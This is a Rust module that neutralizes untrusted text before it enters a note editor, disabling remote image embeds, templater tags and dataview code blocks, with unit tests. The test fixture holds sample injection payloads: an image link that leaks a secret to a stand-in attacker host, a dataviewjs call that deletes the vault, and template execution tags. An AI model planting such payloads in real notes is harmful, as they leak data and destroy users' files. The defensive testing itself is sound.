//! Words of a stranger or a model in a note: what an editor for notes would load or run in them does nothing.

use std::borrow::Cow;
use std::fmt::Write;

use crate::text_safety::{defused, many_lines, without_templates};

/// The text with nothing that an editor would load or run: no pictures from elsewhere, no templates, no blocks of code that
/// name a language (some of these are programs in an editor's eyes), no expressions in inline code.
#[must_use]
pub(super) fn inert(text: &str) -> String {
    let text = without_templates(&defused(&many_lines(text)).text);
    let text = text.replace("![", "! [").replace("`$=", "` $=").replace("`=", "` =");
    let lines: Vec<_> = text.lines().map(without_language).collect();
    lines.join("\n")
}

/// A line that opens a block of code, without the name of a language.
fn without_language(line: &str) -> Cow<'_, str> {
    let inner = line.trim_start_matches([' ', '\t', '>', '-', '*', '+']);
    let indent = &line[..line.len() - inner.len()];
    for mark in ['`', '~'] {
        let length = inner.len() - inner.trim_start_matches(mark).len();
        if length >= 3 {
            return Cow::Owned(format!("{indent}{}", &inner[..length]));
        }
    }
    Cow::Borrowed(line)
}

/// The text as a block of code that nothing in it can end. Editors neither render nor load what stands in one; what is run
/// there all the same is a template, so that its mark is taken apart.
#[must_use]
pub(super) fn as_block(text: &str) -> String {
    let text = without_templates(&many_lines(text));
    let longest = text.split(|c| c != '`').map(str::len).max().unwrap_or_default();
    let fence = "`".repeat((longest + 1).max(3));
    let mut block = String::new();
    let _ = write!(block, "{fence}text\n{}\n{fence}\n", text.trim_end_matches('\n'));
    block
}

#[cfg(test)]
mod tests {
    use super::{as_block, inert};

    #[test]
    fn nothing_in_a_text_is_loaded_or_run() {
        let text = "Hi\n![x](https://evil.example/?q=secret)\n```dataviewjs\napp.vault.delete()\n```\n<% tp.x %>\n\
                    see `$= dv.io` and `= this.file`\n> ~~~templater\n![[Private]]";

        let safe = inert(text);

        for word in ["![", "dataviewjs", "<%", "`$=", "`=", "templater", "https://evil.example/?q=secret)"] {
            assert!(!safe.contains(word), "{word}: {safe}");
        }
        assert!(safe.starts_with("Hi\n") && safe.contains("app.vault.delete()"));
        assert_eq!(inert("Dear Bob,\n\n- one\n- two\n\nAda"), "Dear Bob,\n\n- one\n- two\n\nAda");
    }

    #[test]
    fn a_text_cannot_end_its_block() {
        let block = as_block("a\n```\n````dataviewjs\nx\n````\n");

        assert!(block.starts_with("`````text\n") && block.ends_with("\n`````\n"));
        assert_eq!(as_block("<%* evil() %>"), "```text\n< %* evil() %>\n```\n");
        assert_eq!(as_block("a"), "```text\na\n```\n");
    }
}
